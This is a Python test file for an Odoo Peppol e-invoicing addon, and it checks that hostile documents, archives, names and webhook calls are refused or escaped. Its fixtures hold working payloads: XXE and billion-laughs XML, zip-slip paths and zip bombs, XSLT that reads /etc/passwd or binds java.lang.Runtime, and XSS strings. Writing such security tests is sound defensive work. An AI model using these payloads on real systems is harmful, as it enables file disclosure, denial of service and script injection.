# SPDX-License-Identifier: LGPL-3.0-or-later
"""What means harm: documents, archives, names and calls of strangers (X8)."""

import io
import tracemalloc
import zipfile

from odoo.tests import BaseCase, HttpCase, tagged

from odoo.addons.webhero_base.rules.refusal import Refusal

from ..rules import documents, rules_archive
from ..rules.findings import Finding
from .common import PeppolCommon

FILE = '<!DOCTYPE Invoice [<!ENTITY x SYSTEM "file:///etc/hostname">]><Invoice>&x;</Invoice>'
LAUGHS = (
    '<!DOCTYPE Invoice [<!ENTITY a "ha">'
    + "".join(f'<!ENTITY {here} "{f"&{before};" * 10}">' for before, here in zip("abcdefgh", "bcdefghi", strict=True))
    + "]>"
)
IN_TEXT = f"{LAUGHS}<Invoice>&i;</Invoice>"
IN_ATTRIBUTE = f'{LAUGHS}<Invoice><Note>{"x" * 11_000_000}</Note><Note id="&i;"/></Invoice>'
SHEET = (
    '<xsl:stylesheet xmlns:xsl="http://www.w3.org/1999/XSL/Transform" version="3.0"{attributes}>'
    '<xsl:template match="/"><r>{content}</r></xsl:template></xsl:stylesheet>'
)


def archive(files):
    """Bytes of a zip with {name: text or bytes}."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for name, content in files.items():
            target.writestr(name, content)
    return out.getvalue()


def release(content="", attributes=""):
    """A zip that looks like a release of the rules, with one sheet of this content."""
    sheet = SHEET.format(content=content, attributes=attributes)
    return archive({"PEPPOL-EN16931-UBL.xslt": sheet, "UBL-Invoice-2.1.xsd": "<schema/>"})


@tagged("post_install", "-at_install")
class TestHostileDocuments(BaseCase):
    def test_entities(self):
        """X8: XXE and billion laughs: no document at all, in any encoding, however long another text of it is."""
        for name, text in (("file", FILE), ("text", IN_TEXT), ("attribute", IN_ATTRIBUTE)):
            for encoding in ("utf-8", "utf-16"):
                with self.subTest(name=name, encoding=encoding), self.assertRaises(documents.NotXml):
                    documents.parse(text.encode(encoding))

    def test_long_text(self):
        """P9: an embedded file may be long, as long as nothing else is strange."""
        root = documents.parse(f"<Invoice><Note>{'x' * 11_000_000}</Note></Invoice>".encode())
        self.assertEqual(len(root[0].text), 11_000_000)


@tagged("post_install", "-at_install")
class TestHostileArchives(BaseCase):
    def refused(self, content, code):
        found = rules_archive.inspect(content)
        self.assertIsInstance(found, Refusal)
        self.assertEqual(found.code, code)

    def test_paths(self):
        """X8: a name in a zip that leads elsewhere is refused before anything is unpacked."""
        for name in ("../../etc/cron.d/x.xslt", "/etc/x.xslt", "a\\..\\..\\x.xsd", "..\\x.xslt"):
            with self.subTest(name=name):
                self.refused(archive({name: "<a/>"}), "rules_path")

    def test_bombs(self):
        """X8: a zip that unpacks to more than it may, or to too many files, is refused by its list of contents."""
        bomb = archive({"PEPPOL-EN16931-UBL.xslt": b" " * (rules_archive.LARGEST + 1)})
        self.assertLess(len(bomb), 200_000)
        tracemalloc.start()
        self.addCleanup(tracemalloc.stop)
        self.refused(bomb, "rules_too_large")
        self.assertLess(tracemalloc.get_traced_memory()[1], 5_000_000, "S18.6: nothing of it was unpacked")
        self.refused(archive({f"{number}.txt": "" for number in range(rules_archive.FILES + 1)}), "rules_too_large")

    def test_lies_and_locks(self):
        """X8: a zip that declares a smaller size than it has, or is broken inside, gives a sentence and no traceback."""
        whole = bytearray(release())
        place = whole.rfind(b"PK\x01\x02")
        whole[place + 24] ^= 1  # the size that the list of contents gives
        self.refused(bytes(whole), "rules_not_zip")
        large = bytearray(archive({"PEPPOL-EN16931-UBL.xslt": b" " * rules_archive.LARGEST}))
        place = large.rfind(b"PK\x01\x02")
        large[place + 24 : place + 28] = (1000).to_bytes(4, "little")
        tracemalloc.start()
        self.addCleanup(tracemalloc.stop)
        self.refused(bytes(large), "rules_not_zip")
        self.assertLess(tracemalloc.get_traced_memory()[1], 5_000_000, "S18.6: no more than a piece of it was unpacked")
        self.refused(b"no zip", "rules_not_zip")

    def test_sheets_that_read_files(self):
        """X8: a sheet may not read or write anything beside the document, by whatever way it asks."""
        self.assertNotIsInstance(rules_archive.inspect(release()), Refusal)
        for content, attributes in (
            ("<xsl:value-of select=\"doc('file:///etc/passwd')\"/>", ""),
            ("<xsl:value-of select=\"unparsed-text('/etc/passwd')\"/>", ""),
            ("<xsl:value-of select=\"(doc#1)('file:///etc/passwd')\"/>", ""),
            ("<xsl:value-of select=\"function-lookup(xs:QName('fn:doc'), 1)('x')\"/>", ""),
            ("<xsl:result-document href='/tmp/x'/>", ""),
            ("<xsl:import href='http://elsewhere.example/x.xsl'/>", ""),
            ("{doc('file:///etc/passwd')}", ' expand-text="yes"'),
            ("", ' xmlns:r="java:java.lang.Runtime"'),
        ):
            with self.subTest(content=content or attributes):
                self.refused(release(content, attributes), "rules_unsafe")


@tagged("post_install", "-at_install")
class TestHostileNames(PeppolCommon):
    def test_scripts_in_names(self):
        """X8: a customer's name and a document's own words appear in explanations as text, never as markup."""
        script = "<script>alert(1)</script><img src=x onerror=alert(1)>"
        move = self.make_invoice(self.make_customer(f"Bakkerij {script}", 1122335))
        found = Finding("PEPPOL", "BR-10", "fatal", script, "/Invoice/cac:AccountingCustomerParty")
        move.webhero_peppol_findings = {"findings": [vars(found) if hasattr(found, "__dict__") else found._asdict()]}
        shown = move.webhero_peppol_explanation
        self.assertTrue(shown)
        self.assertNotIn("<script", shown)
        self.assertNotIn("<img", shown)

    def test_scripts_on_the_first_screen(self):
        """X8: the onboarding screen names whose number it is, as text."""
        self.make_customer("Bakkerij <img src=x onerror=alert(1)>", 1122336)
        number = self.env["res.partner"].search([("name", "=like", "Bakkerij <img%")]).company_registry
        wizard = self.env["webhero.peppol.onboarding"].create(
            {"country_id": self.env.ref("base.be").id, "number": number}
        )
        self.assertIn("Bakkerij &lt;img", wizard.warnings)
        self.assertNotIn("<img", wizard.warnings)


@tagged("post_install", "-at_install")
class TestForgedCalls(HttpCase):
    def test_forged_hints(self):
        """X8: a forged webhook is answered like a right one, starts nothing, and no token makes the server stumble."""
        point = self.env["webhero.access.point"].create({"name": "Recommand", "provider": "recommand"})
        point.write({"activation": "active"})
        real = point._hint_token()
        other = f"{point.id}-{'0' * 32}"
        before = point.backend_id.next_run
        for token in (other, real[:-1], real.upper() + "x", "²-x", "9" * 400, f"{'9' * 30}-{'0' * 32}", "é-é", "%00-x"):
            with self.subTest(token=token[:40]):
                answer = self.url_open(f"/webhero_peppol/hint/{token}", data=b"<xml/>", method="POST")
                self.assertIn(answer.status_code, (204, 404))
        self.assertEqual(point.backend_id.next_run, before)
        self.assertEqual(self.url_open(f"/webhero_peppol/hint/{real}", data=b"", method="POST").status_code, 204)
        self.assertTrue(point.backend_id.next_run)

    def test_forged_proofs(self):
        """X8: the page of a proof opens by its own token only, whatever letters a forged one is made of."""
        company = self.env.company
        point = self.env["webhero.access.point"].create({"name": "Recommand", "provider": "recommand"})
        proof = self.env["webhero.peppol.proof"].create(
            {
                "access_point_id": point.id, "company_id": company.id, "operator_id": company.id, "way": "payment",
                "participant": "0208:0999472756",
            }
        )  # fmt: skip
        for path in (f"{proof.id}?token=x", f"{proof.id}?token=%C3%A9", f"{proof.id}", f"{'9' * 30}?token=x"):
            with self.subTest(path=path[:20]):
                self.assertEqual(self.url_open(f"/webhero_peppol/proof/{path}").status_code, 404)
